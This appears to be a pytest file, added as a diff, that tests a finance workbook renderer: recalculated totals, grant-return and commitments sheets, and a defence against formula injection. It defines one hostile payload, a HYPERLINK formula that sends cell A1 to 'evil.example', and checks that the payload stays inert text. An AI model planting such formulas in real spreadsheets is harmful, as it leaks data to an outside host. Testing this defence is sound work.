@@ -1,0 +1,134 @@
+"""The position workbook read back: its totals (recalculated by LibreOffice), its sheets, and
+hostile text that stays text."""
+
+from __future__ import annotations
+
+import dataclasses
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+from python_calamine import CalamineWorkbook
+
+from pipeline.commitments import commitments
+from pipeline.ledger import read_ledgers
+from pipeline.position import Position, build_position
+from pipeline.render_position import position_name, render_position
+from tests.make_ledger import write_ledger
+from tests.office import convert
+from tests.test_position import sample_with_cost_codes
+
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture(scope="module")
+def position(tmp_path_factory: pytest.TempPathFactory) -> Position:
+    folder = tmp_path_factory.mktemp("ledger")
+    ledger = write_ledger(folder / "ledger-2021-22.csv")
+    with ledger.open("a", encoding="utf-8") as handle:
+        handle.write(f'01/09/2021,"{INJECTION.replace(chr(34), chr(34) * 2)}",700.00,T9,,,\n')
+    read = read_ledgers([ledger])
+    built = build_position(sample_with_cost_codes(), read.payments)
+    assert built is not None
+    return built
+
+
+@pytest.fixture(scope="module")
+def workbook(position: Position, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    target = tmp_path_factory.mktemp("position") / position_name(position)
+    render_position(position, commitments(position.plan), target)
+    return target
+
+
+def values(path: Path, sheet: str) -> list[list[object]]:
+    book = CalamineWorkbook.from_path(str(path))
+    try:
+        return [list(row) for row in book.get_sheet_by_name(sheet).to_python()]
+    finally:
+        book.close()
+
+
+def total_row(rows: list[list[object]], label: str = "Total") -> list[object]:
+    return next(row for row in rows if row and row[0] == label)
+
+
+def pounds(value: object) -> Decimal:
+    return Decimal(str(value)).quantize(Decimal("0.01"))
+
+
+def test_the_name_carries_the_reference_and_the_as_at_date(position: Position) -> None:
+    assert position_name(position) == "position-015-2021-2021-09-30.xlsx"
+
+
+def test_totals_are_formulas_with_cached_values(workbook: Path, position: Position) -> None:
+    formulas = openpyxl.load_workbook(workbook)["Lines"]
+    total = next(r for r in formulas.iter_rows() if r[0].value == "Total")
+    assert str(total[7].value).startswith("=SUM(H4:H")
+    lines = total_row(values(workbook, "Lines"))
+    assert pounds(lines[7]) == sum((p.spent for p in position.lines), Decimal(0))
+    assert pounds(lines[9]) == sum((p.forecast for p in position.lines), Decimal(0))
+    summary = total_row(values(workbook, "Summary"))
+    assert pounds(summary[3]) == position.spent == Decimal("471924.23")
+
+
+@pytest.mark.slow
+def test_libreoffice_recalculates_to_the_same_totals(workbook: Path, tmp_path: Path) -> None:
+    recalculated = convert(workbook, "xlsx", tmp_path / "recalc")
+    for sheet in ("Summary", "Lines", "Payments to check", "Commitments"):
+        ours = [row for row in values(workbook, sheet) if row and row[0] == "Total"]
+        theirs = [row for row in values(recalculated, sheet) if row and row[0] == "Total"]
+        assert ours and len(ours) == len(theirs), sheet
+        for mine, office in zip(ours, theirs, strict=True):
+            numbers = [
+                (pounds(a), pounds(b))
+                for a, b in zip(mine, office, strict=False)
+                if isinstance(a, (int, float)) and not isinstance(a, bool)
+            ]
+            assert numbers and all(a == b for a, b in numbers), (sheet, numbers)
+
+
+def test_the_grant_return_and_the_ring_fenced_stream(workbook: Path) -> None:
+    rows = values(workbook, "MoJ grant return")
+    stream = next(row for row in rows if row and row[0] == "MoJ Victims' Services Grant")
+    assert pounds(stream[2]) == Decimal("884000.00")
+    assert pounds(stream[3]) == Decimal("325155.46")
+    summary = values(workbook, "Summary")
+    ring = next(row for row in summary if row and row[0] == "MoJ Victims' Services Grant")
+    assert pounds(ring[4]) == Decimal("80801.36")
+
+
+def test_commitments_sheet(workbook: Path) -> None:
+    rows = values(workbook, "Commitments")
+    header = next(row for row in rows if row and row[0] == "Fund")
+    assert header[4:9] == ["2022/23", "2023/24", "2024/25", "2025/26", "2026/27"]
+    cisva = next(row for row in rows if row and str(row[1]).startswith("Children's Independent"))
+    assert [pounds(v) for v in cisva[4:7]] == [
+        Decimal("200549.45"),
+        Decimal("201098.90"),
+        Decimal("100549.45"),
+    ]
+
+
+def test_a_formula_injection_supplier_stays_text(workbook: Path, position: Position) -> None:
+    book = openpyxl.load_workbook(workbook)
+    sheet = book["Payments to check"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == INJECTION]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"  # a string, not a formula
+    assert cells[0].quotePrefix
+    finding = next(f for f in position.findings if INJECTION in f.message)
+    assert finding.code == "W-SPEND-UNMATCHED"
+
+
+def test_position_without_ring_fence_or_moj(position: Position, tmp_path: Path) -> None:
+    plan = position.plan
+    plain = dataclasses.replace(
+        position,
+        plan=dataclasses.replace(plan, sources=tuple(s for s in plan.sources if not s.is_moj)),
+        funds=tuple(dataclasses.replace(f, streams=()) for f in position.funds),
+    )
+    target = tmp_path / "plain.xlsx"
+    render_position(plain, commitments(plain.plan), target)
+    rows = values(target, "MoJ grant return")
+    assert not any(row and row[0] == "Stream" for row in rows)
